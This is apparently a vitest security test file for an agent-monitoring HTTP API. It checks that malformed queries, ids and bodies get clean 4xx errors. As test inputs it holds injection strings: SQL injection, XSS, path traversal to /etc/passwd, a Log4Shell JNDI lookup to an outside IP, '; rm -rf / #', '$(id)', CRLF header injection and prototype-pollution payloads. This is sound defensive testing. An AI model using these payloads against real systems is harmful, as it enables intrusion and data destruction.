// Hostile input: malformed ids, huge limits, injection strings and broken bodies must all get a
// clear 4xx with `{error: {code, message}}`, never a 500, a stack trace, a file path, a framework
// error name or an echo of the input.
import { afterAll, describe, expect, it } from "vitest";
import { bearer, buildTestServer } from "./helpers.js";

const server = buildTestServer();
const { app, keys } = server;
afterAll(() => app.close());

const read = bearer(keys.read.key);
const admin = bearer(keys.admin.key);

function expectCleanError(body: string, status: number, input?: string) {
  const parsed = JSON.parse(body);
  expect(Object.keys(parsed)).toEqual(["error"]);
  expect(Object.keys(parsed.error).sort()).toEqual(["code", "message"]);
  expect(typeof parsed.error.code).toBe("string");
  expect(body).not.toMatch(/\bat .+:\d+|\/work\/|node_modules|FST_|Error:|stack/i);
  if (input && input.length > 3) expect(body).not.toContain(input);
  expect(status).toBeLessThan(500);
}

const INJECTIONS = [
  "' OR '1'='1' --",
  "<script>alert(1)</script>",
  "../../../../etc/passwd",
  "..%2f..%2fetc%2fpasswd",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, literally
  "${jndi:ldap://203.0.113.1/a}",
  "{{7*7}}",
  "; rm -rf / #",
  "$(id)",
  "\u202eevil",
  "%00",
  "a".repeat(257),
];

describe("query parameters", () => {
  const bad: Array<[string, string]> = [
    ["limit=100000", "query.limit"],
    ["limit=0", "query.limit"],
    ["limit=-1", "query.limit"],
    ["limit=abc", "query.limit"],
    ["limit=1e3", "query.limit"],
    ["limit=99999999999999999999999", "query.limit"],
    ["limit=1&limit=2", "query.limit"],
    ["tier=evil", "query.tier"],
    ["minRisk=2", "query.minRisk"],
    ["minRisk=0.5;DROP", "query.minRisk"],
    ["seenSince=yesterday", "query.seenSince"],
    ["cursor=!!!", "query.cursor"],
    ["cursor=eyJyIjoiYSJ9", "cursor"],
    ["unknown=1", "query"],
  ];
  for (const [query, field] of bad) {
    it(`400 for /v1/agents?${query}, naming ${field}`, async () => {
      const res = await app.inject({ url: `/v1/agents?${query}`, headers: read });
      expect(res.statusCode).toBe(400);
      expectCleanError(res.body, res.statusCode);
      expect(res.json().error.code).toBe("INVALID_REQUEST");
      expect(res.json().error.message).toContain(field);
    });
  }

  it("does not echo unknown parameter names", async () => {
    const res = await app.inject({ url: "/v1/agents?%3Cscript%3Ealert(1)%3C%2Fscript%3E=1", headers: read });
    expect(res.statusCode).toBe(400);
    expect(res.json().error.message).toBe("the request is invalid: query: unknown field");
    expectCleanError(res.body, res.statusCode, "<script>");
  });

  it("400 for bad alert filters", async () => {
    for (const query of ["severity=urgent", "severity=", "since=2026-13-45", "limit=501", "agent=%00"]) {
      const res = await app.inject({ url: `/v1/alerts?${query}`, headers: read });
      expect(res.statusCode, query).toBe(400);
      expectCleanError(res.body, res.statusCode);
    }
  });

  it("400 for a malformed decisions cursor or check agent", async () => {
    const gw = bearer(keys.gateway.key);
    for (const url of [
      "/v1/decisions?since=%27%20OR%201",
      "/v1/decisions/check?agent=",
      "/v1/decisions/check?x=1",
    ]) {
      const res = await app.inject({ url, headers: gw });
      expect(res.statusCode, url).toBe(400);
      expectCleanError(res.body, res.statusCode);
    }
  });
});

describe("path parameters", () => {
  for (const value of INJECTIONS) {
    it(`clean 4xx for agent id ${JSON.stringify(value.slice(0, 30))}`, async () => {
      const res = await app.inject({ url: `/v1/agents/${encodeURIComponent(value)}`, headers: read });
      expect([400, 404]).toContain(res.statusCode);
      expectCleanError(res.body, res.statusCode, value);
    });
  }

  it("400 for control characters and over-long ids, 404 for unknown ones", async () => {
    expect((await app.inject({ url: "/v1/agents/a%00b", headers: read })).statusCode).toBe(400);
    expect((await app.inject({ url: "/v1/agents/a%0d%0aSet-Cookie:x", headers: read })).statusCode).toBe(400);
    expect((await app.inject({ url: `/v1/agents/${"x".repeat(300)}`, headers: read })).statusCode).toBe(400);
    expect((await app.inject({ url: "/v1/agents/nobody", headers: read })).json().error.code).toBe(
      "NOT_FOUND",
    );
  });

  it("never 500s on ids beyond the router's limit or broken percent-encoding", async () => {
    for (const url of [`/v1/agents/${"x".repeat(5000)}`, "/v1/agents/%E0%A4%A", "/v1/agents/%ff%fe"]) {
      const res = await app.inject({ url, headers: read });
      expect(res.statusCode, url).toBeGreaterThanOrEqual(400);
      expectCleanError(res.body, res.statusCode);
    }
  });

  it("treats injection strings in filters as plain values", async () => {
    for (const value of INJECTIONS.slice(0, 8)) {
      const res = await app.inject({ url: `/v1/alerts?agent=${encodeURIComponent(value)}`, headers: read });
      expect(res.statusCode).toBe(200);
      expect(res.json().items).toEqual([]);
    }
  });
});

describe("bodies", () => {
  const post = (payload: string, contentType = "application/json") =>
    app.inject({
      method: "POST",
      url: "/v1/allowlist",
      headers: { ...admin, "content-type": contentType },
      payload,
    });

  it("400 for malformed JSON, unknown fields, wrong types and prototype keys", async () => {
    for (const payload of [
      "{",
      '{"entry": 1}',
      '{"entry": "a", "extra": true}',
      '{"__proto__": {"admin": true}, "entry": "a"}',
      '{"constructor": {"prototype": {"x": 1}}}',
      '{"entry": "a\\u0000b"}',
      "[]",
      "null",
    ]) {
      const res = await post(payload);
      expect(res.statusCode, payload).toBe(400);
      expectCleanError(res.body, res.statusCode);
    }
    expect(await server.decisions.allowlist.list()).toEqual([]);
  });

  it("415 for non-JSON bodies and 413 for oversized ones", async () => {
    const text = await post("entry=a", "text/plain");
    expect(text.statusCode).toBe(415);
    expectCleanError(text.body, text.statusCode);
    const huge = await post(JSON.stringify({ entry: "a".repeat(20_000) }));
    expect(huge.statusCode).toBe(413);
    expect(huge.json().error.code).toBe("PAYLOAD_TOO_LARGE");
  });

  it("400 for an entry with '/' that is no CIDR, or one the store refuses", async () => {
    for (const entry of ["team/bot", "10.0.0.0/33", "0.0.0.0/0"]) {
      const res = await post(JSON.stringify({ entry }));
      expect(res.statusCode, entry).toBe(400);
      expectCleanError(res.body, res.statusCode);
    }
  });

  it("accepts agent ids (an address alone is the id of an IP-identified agent) and CIDRs", async () => {
    for (const entry of ["agent-7", "203.0.113.0/24", "2001:db8::/32", "198.51.100.7"]) {
      expect((await post(JSON.stringify({ entry }))).statusCode).toBe(201);
    }
    expect((await post(JSON.stringify({ entry: "agent-7" }))).statusCode).toBe(200);
    const removed = await app.inject({
      method: "DELETE",
      url: "/v1/allowlist/203.0.113.0%2F24",
      headers: admin,
    });
    expect(removed.statusCode).toBe(204);
    const listed = await app.inject({ url: "/v1/allowlist", headers: read });
    expect(listed.json().items).toEqual(
      ["198.51.100.7", "2001:db8::/32", "agent-7"].map((entry) => ({ entry, source: "api" })),
    );
  });
});

describe("failures inside", () => {
  it("answers 500 INTERNAL with no detail, and logs the cause for the operator", async () => {
    const failing = buildTestServer({
      deps: {
        testSinks: async () => {
          throw new Error("connect ECONNREFUSED /var/run/secret-sink.sock");
        },
      },
    });
    const res = await failing.app.inject({
      method: "POST",
      url: "/v1/test",
      headers: bearer(failing.keys.admin.key),
    });
    expect(res.statusCode).toBe(500);
    expect(res.json()).toEqual({ error: { code: "INTERNAL", message: "internal error" } });
    expect(res.body).not.toContain("ECONNREFUSED");
    expect(failing.logs.join("")).toContain("ECONNREFUSED");
    await failing.app.close();
  });

  it("404s unknown routes and methods in the same error shape", async () => {
    for (const [method, url] of [
      ["GET", "/v2/agents"],
      ["PUT", "/v1/agents"],
      ["GET", "/.env"],
    ] as const) {
      const res = await app.inject({ method, url, headers: read });
      expect(res.statusCode).toBe(404);
      expect(res.json()).toEqual({ error: { code: "NOT_FOUND", message: "no such resource" } });
    }
  });

  it("sends no-store and nosniff on every answer", async () => {
    for (const url of ["/healthz", "/v1/agents", "/nope"]) {
      const res = await app.inject({ url, headers: read });
      expect(res.headers["cache-control"]).toBe("no-store");
      expect(res.headers["x-content-type-options"]).toBe("nosniff");
    }
  });
});
